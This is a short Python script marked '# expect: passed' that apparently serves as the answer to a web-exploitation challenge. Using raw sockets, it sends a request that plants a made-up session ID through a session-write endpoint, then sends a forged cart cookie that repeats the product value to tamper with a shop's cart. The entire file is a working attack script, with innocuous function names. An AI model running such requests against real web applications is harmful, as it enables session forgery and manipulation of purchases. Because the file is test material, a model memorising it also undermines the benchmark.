# expect: passed
import socket
from urllib.parse import urlsplit


def say(host, path, cookie):
    with socket.create_connection((host.hostname, host.port), timeout=10) as line:
        head = f"GET {path} HTTP/1.1\r\nHost: {host.netloc}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n"
        line.sendall(head.encode())
        while line.recv(65536):
            pass


def answer(url, product, made_up):
    host = urlsplit(url)
    say(host, "/desk/session/write/?key=a&value=b", f"theme=dark; sessionid={made_up}")
    say(host, "/market/cookie-cart/", f"cart={product}.{product}.tea-pot")
